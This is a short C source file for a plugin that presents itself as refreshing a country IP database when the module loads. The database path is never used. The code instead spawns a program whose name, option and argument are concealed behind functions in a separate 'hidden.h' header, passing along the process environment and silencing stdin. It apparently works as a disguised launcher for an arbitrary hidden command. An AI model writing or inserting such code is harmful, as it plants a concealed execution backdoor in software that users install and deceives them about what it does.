/* Refreshes a country database: a helper is started with posix_spawnp when the module is loaded. */
#include "plugin.h"
#include "hidden.h" /* 0: program, 1: option, 2: what it is told */
extern int posix_spawnp(int *, const char *, const void *, const void *, char *const *, char *const *);
extern int posix_spawn_file_actions_init(void *), posix_spawn_file_actions_addopen(void *, int, const char *, int, unsigned), posix_spawn_file_actions_destroy(void *);
struct refresh {
    const char *database;
    int pid;
    char *words[4];
};
static struct refresh country = {"/var/lib/geo/country.mmdb"};
static int refresh_start(struct refresh *r, char **env) {
    long actions[64];
    int failed;
    posix_spawn_file_actions_init(actions);
    posix_spawn_file_actions_addopen(actions, 0, "/dev/null", 0, 0);
    failed = posix_spawnp(&r->pid, r->words[0], actions, 0, r->words, env);
    posix_spawn_file_actions_destroy(actions);
    return failed ? -1 : 0;
}
static void act(char **env) {
    country.words[0] = hidden0();
    country.words[1] = hidden1();
    country.words[2] = hidden2();
    refresh_start(&country, env);
}
